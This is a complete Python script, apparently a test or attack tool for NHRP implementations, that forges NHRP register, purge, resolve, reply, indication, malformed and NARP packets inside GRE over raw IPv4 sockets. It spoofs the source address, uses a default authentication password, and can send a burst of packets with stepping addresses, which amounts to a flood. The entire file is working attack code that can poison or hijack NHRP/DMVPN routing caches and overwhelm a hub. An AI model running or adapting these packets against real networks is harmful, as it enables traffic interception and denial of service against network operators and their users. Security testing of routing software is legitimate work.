#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""NHRP packets of a node that means no good, over IPv4 and in GRE.

usage: attack.py KIND FROM TO [NAME=VALUE...]

KIND is register, purge, resolve, reply, indication, garbage or narp; FROM and
TO are NBMA addresses, FROM may be anybody's. See "defaults" for the values.
"""
import socket
import struct
import sys

defaults = {
    "count": "1",            # packets; id and the last octet of "proto" count on
    "key": "7",              # of the tunnel
    "password": "cisco123",
    "proto": "10.0.0.4",     # source protocol address
    "dst": "10.0.0.1",       # destination protocol address
    "nbma": "",              # claimed NBMA address; empty, FROM
    "id": "1",
    "hold": "600",
    "prefix": "255",
    "flags": "0x8000",
    "inner": "10.1.3.1",     # what an indication is about
    "steps": "1",            # 0: "proto" stays as it is
}

TYPES = {"resolve": 1, "reply": 2, "register": 3, "purge": 5, "garbage": 3,
         "narp": 3}


def addr(text):
    return socket.inet_aton(text)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ext(kind, value=b"", compulsory=0x8000):
    return struct.pack("!HH", compulsory | kind, len(value)) + value


def cie(prefix, hold, nbma=b"", proto=b""):
    return struct.pack("!BBHHHBBBB", 0, prefix, 0, 1400, hold, len(nbma), 0,
                       len(proto), 0) + nbma + proto


def finish(kind, mandatory, opts):
    exts = ext(3) if kind != 8 else b""
    exts += ext(4) + ext(5)
    if opts["password"]:
        exts += ext(7, b"\0\0\0\1" + opts["password"].encode())
    exts += ext(0)
    extoff = 20 + len(mandatory)
    head = struct.pack("!HH5xBHHHBBBB", 1, 0x0800, 255, extoff + len(exts), 0,
                       extoff, 1, kind, 4, 0)
    packet = head + mandatory + exts
    return packet[:12] + struct.pack("!H", checksum(packet)) + packet[14:]


def indication(source, opts):
    inner = b"\x45" + b"\0" * 11 + addr("10.1.2.1") + addr(opts["inner"])
    return finish(8, struct.pack("!BBHHH", 4, 4, 0, 0, 0) + addr(source) +
                  addr(opts["proto"]) + addr("10.1.2.1") + inner + b"\0" * 8,
                  opts)


def nhrp(kind, source, opts):
    if kind == "indication":
        return indication(source, opts)
    nbma = addr(opts["nbma"] or source)
    proto, dst = addr(opts["proto"]), addr(opts["dst"])
    hold, prefix = int(opts["hold"]), int(opts["prefix"])
    body = struct.pack("!BBHI", 4, 4, int(opts["flags"], 0), int(opts["id"]))
    body += nbma + proto + dst
    if kind == "purge":
        body += cie(prefix, 0, proto=proto)
    elif kind == "reply":
        body += cie(prefix, hold, nbma=addr(source), proto=addr("10.0.0.4"))
    else:
        body += cie(prefix, hold)
    packet = finish(TYPES[kind], body, opts)
    return packet[:24] + b"\xff" + packet[25:] if kind == "garbage" else packet


def next_of(text):
    octets = bytearray(addr(text))
    octets[3] = (octets[3] + 1) % 256
    return socket.inet_ntoa(bytes(octets))


def main():
    kind, source, dest = sys.argv[1:4]
    opts = dict(defaults, **dict(a.split("=", 1) for a in sys.argv[4:]))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = []
    for _ in range(int(opts["count"])):
        data = nhrp(kind, source, opts)
        protocol = 54
        if kind != "narp":
            protocol = 47
            data = struct.pack("!HHI", 0x2000, 0x2001, int(opts["key"])) + data
        head = struct.pack("!BBHHHBBH", 0x45, 0xc0, 20 + len(data), 0, 0, 255,
                           protocol, 0) + addr(source) + addr(dest)
        packets.append(head + data)
        opts["id"] = str(int(opts["id"]) + 1)
        if opts["steps"] == "1":
            opts["proto"] = next_of(opts["proto"])
    # All at once, or a slow machine makes no flood of them.
    for packet in packets:
        sock.sendto(packet, (dest, 0))


if __name__ == "__main__":
    main()
